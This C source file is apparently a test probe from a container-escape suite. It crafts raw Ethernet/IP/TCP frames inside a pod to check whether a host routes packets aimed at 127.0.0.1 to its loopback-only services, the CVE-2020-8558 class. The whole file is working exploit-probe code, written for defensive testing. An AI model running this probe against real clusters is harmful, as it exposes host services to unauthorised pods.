/* The CVE-2020-8558 class, from inside a pod: a TCP SYN to 127.0.0.1:PORT, handed to the
 * bridge's MAC address as if the host should route it (route_localnet is on for the bridge, so
 * that the host's own connections to 127.0.0.1:hostPort reach pods). A host that answers has
 * let a pod reach its loopback-only services. For the escape suite
 * (tests/e2e/attacks_root_test.sh); CAP_NET_RAW, which every container has by default, is
 * enough.
 *
 * usage: localnet_probe IFACE GATEWAY_IP PORT     prints "answered" or "no answer" */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static unsigned short checksum(const void *data, size_t len, unsigned long sum) {
  const unsigned char *p = data;
  for (; len > 1; len -= 2, p += 2) sum += (unsigned)(p[0] << 8 | p[1]);
  if (len) sum += (unsigned)(p[0] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((unsigned short)~sum);
}

static int gateway_mac(const char *ip, unsigned char mac[6]) {
  FILE *f = fopen("/proc/net/arp", "r");
  char line[256], addr[64], hw[64];
  int found = 0;
  if (!f) return 0;
  while (fgets(line, sizeof line, f))
    if (sscanf(line, "%63s %*s %*s %63s", addr, hw) == 2 && strcmp(addr, ip) == 0 &&
        sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) == 6)
      found = 1;
  fclose(f);
  return found;
}

int main(int argc, char **argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: localnet_probe IFACE GATEWAY_IP PORT\n");
    return 2;
  }
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (fd < 0) {
    perror("socket");
    return 1;
  }
  struct ifreq ifr;
  memset(&ifr, 0, sizeof ifr);
  strncpy(ifr.ifr_name, argv[1], IFNAMSIZ - 1);
  if (ioctl(fd, SIOCGIFINDEX, &ifr) != 0) return perror("SIOCGIFINDEX"), 1;
  int ifindex = ifr.ifr_ifindex;
  if (ioctl(fd, SIOCGIFHWADDR, &ifr) != 0) return perror("SIOCGIFHWADDR"), 1;
  unsigned char mine[6], gw[6];
  memcpy(mine, ifr.ifr_hwaddr.sa_data, 6);
  if (ioctl(fd, SIOCGIFADDR, &ifr) != 0) return perror("SIOCGIFADDR"), 1;
  struct in_addr my_ip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
  if (!gateway_mac(argv[2], gw)) {
    fprintf(stderr, "no ARP entry for %s (ping it first)\n", argv[2]);
    return 1;
  }
  unsigned short sport = (unsigned short)(40000 + getpid() % 20000), dport = (unsigned short)atoi(argv[3]);

  unsigned char frame[sizeof(struct ether_header) + sizeof(struct iphdr) + sizeof(struct tcphdr)];
  memset(frame, 0, sizeof frame);
  struct ether_header *eth = (struct ether_header *)frame;
  memcpy(eth->ether_dhost, gw, 6);
  memcpy(eth->ether_shost, mine, 6);
  eth->ether_type = htons(ETHERTYPE_IP);
  struct iphdr *ip = (struct iphdr *)(frame + sizeof *eth);
  ip->version = 4;
  ip->ihl = 5;
  ip->tot_len = htons(sizeof(struct iphdr) + sizeof(struct tcphdr));
  ip->id = htons(1);
  ip->ttl = 64;
  ip->protocol = IPPROTO_TCP;
  ip->saddr = my_ip.s_addr;
  ip->daddr = htonl(INADDR_LOOPBACK);
  ip->check = checksum(ip, sizeof *ip, 0);
  struct tcphdr *tcp = (struct tcphdr *)(ip + 1);
  tcp->source = htons(sport);
  tcp->dest = htons(dport);
  tcp->seq = htonl(12345);
  tcp->doff = 5;
  tcp->syn = 1;
  tcp->window = htons(1024);
  unsigned char pseudo[12 + sizeof(struct tcphdr)];
  memcpy(pseudo, &ip->saddr, 4);
  memcpy(pseudo + 4, &ip->daddr, 4);
  pseudo[8] = 0;
  pseudo[9] = IPPROTO_TCP;
  pseudo[10] = 0;
  pseudo[11] = sizeof(struct tcphdr);
  memcpy(pseudo + 12, tcp, sizeof *tcp);
  tcp->check = checksum(pseudo, sizeof pseudo, 0);

  struct sockaddr_ll to;
  memset(&to, 0, sizeof to);
  to.sll_family = AF_PACKET;
  to.sll_ifindex = ifindex;
  to.sll_halen = 6;
  memcpy(to.sll_addr, gw, 6);
  for (int attempt = 0; attempt < 3; ++attempt) {
    if (sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)sizeof frame) return perror("sendto"), 1;
    struct timespec until;
    clock_gettime(CLOCK_MONOTONIC, &until);
    until.tv_sec += 1;
    for (;;) {
      struct timespec now;
      clock_gettime(CLOCK_MONOTONIC, &now);
      long left = (until.tv_sec - now.tv_sec) * 1000 + (until.tv_nsec - now.tv_nsec) / 1000000;
      if (left <= 0) break;
      struct pollfd p = {fd, POLLIN, 0};
      if (poll(&p, 1, (int)left) <= 0) break;
      unsigned char buf[2048];
      ssize_t n = recv(fd, buf, sizeof buf, 0);
      if (n < (ssize_t)(sizeof(struct iphdr) + sizeof(struct tcphdr))) continue;
      /* AF_PACKET/SOCK_RAW with ETH_P_IP: frames with their Ethernet header. */
      struct iphdr *rip = (struct iphdr *)(buf + sizeof(struct ether_header));
      if (rip->protocol != IPPROTO_TCP || rip->saddr != htonl(INADDR_LOOPBACK)) continue;
      struct tcphdr *rt = (struct tcphdr *)((unsigned char *)rip + rip->ihl * 4);
      if (ntohs(rt->dest) == sport && rt->syn && rt->ack) {
        printf("answered\n");
        return 0;
      }
    }
  }
  printf("no answer\n");
  return 0;
}
